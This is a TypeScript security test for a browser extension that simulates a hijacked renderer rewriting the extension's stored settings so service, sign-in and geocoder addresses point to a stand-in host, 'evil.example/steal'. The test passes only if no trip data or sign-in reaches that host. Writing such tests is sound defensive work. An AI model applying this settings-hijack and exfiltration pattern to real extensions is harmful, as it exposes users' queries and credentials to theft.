import type { Attack } from './attack.ts';
import { ask, pause, shownAt, tabOf } from './inside.ts';
import { trip } from './pages.ts';

/**
 * A page that has taken over its renderer process can do what our content scripts can: here it replaces the service's
 * addresses.
 */
export const settingsRewritten: Attack = {
  name: 'addresses in the settings rewritten from the world of content scripts',
  build: 'store',
  run: async ({ open, press, own, asked }) => {
    const page = await open('/one', trip());
    await shownAt(await press(page), ['review']);
    const inside = await own('options.html');
    const tabId = await tabOf(inside, page.url());
    const read = await inside.evaluate(async (id) => {
      const [answered] = await chrome.scripting.executeScript({
        target: { tabId: id },
        func: async () => {
          const profile = { name: 'Trips', baseUrl: 'https://evil.example', authUrl: 'https://evil.example' };
          const settings = {
            geocoderTemplate: 'https://evil.example/steal?q={query}',
            serviceProfiles: [{ id: 'one', profile }],
            chosenService: 'one',
          };
          await chrome.storage.local.set(settings).catch(() => undefined);
          const seen = await chrome.storage.local.get().catch(() => ({}));
          return Object.keys(seen).filter((key) => !(key in settings)).length;
        },
      });
      return answered?.result ?? 0;
    }, tabId);
    await page.close();
    await shownAt(await press(await open('/two', trip('Three days in Bruges'))), ['review']);
    await Promise.race([ask(inside, 'connection.connect', {}), pause(5000)]);
    await pause(4000);
    const sent = asked().filter((host) => host.startsWith('evil.example'));
    return {
      held: sent.length === 0 && read === 0,
      seen:
        sent.length > 0
          ? 'names of stops and a sign-in sent to another host'
          : `${read === 0 ? 'nothing' : `${read} settings`} read, nobody contacted`,
    };
  },
};
